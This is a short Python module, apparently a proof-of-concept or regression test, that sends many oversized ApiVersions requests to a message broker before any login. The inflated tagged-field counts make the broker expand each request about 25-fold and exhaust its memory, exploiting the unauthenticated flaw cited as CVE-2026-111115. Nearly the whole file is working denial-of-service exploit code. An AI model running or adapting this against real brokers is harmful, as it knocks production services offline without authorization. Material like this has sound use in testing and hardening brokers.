"""Requests that harm a broker before any login."""

import contextlib
import socket
import struct
import time

SECONDS = 10  # for all answers; a broker without memory gives none


def big_requests(port, size, number):
    """Send so many ApiVersions requests side by side, whose tagged fields a broker unpacks to 25 times their size.

    size: bytes of each. They need no login: CVE-2026-111115. Each connection stays open until the broker ends it: a
    broker drops the request of a connection that has gone.
    """
    head = struct.pack(">hhih", 18, 3, 7, -1)
    fields = size // 2  # each is a tag and a length, both 0
    count = bytearray()
    while fields >= 128:
        count.append(fields & 127 | 128)
        fields >>= 7
    body = head + bytes([*count, fields]) + bytes(size)
    with contextlib.ExitStack() as connections:
        opened = []
        for _ in range(number):
            with contextlib.suppress(OSError):
                opened.append(connections.enter_context(socket.create_connection(("127.0.0.1", port), SECONDS)))
                opened[-1].sendall(struct.pack(">i", len(body)) + body)
        end = time.monotonic() + SECONDS
        for connection in opened:
            with contextlib.suppress(OSError):
                connection.settimeout(max(0.01, end - time.monotonic()))
                connection.recv(1)
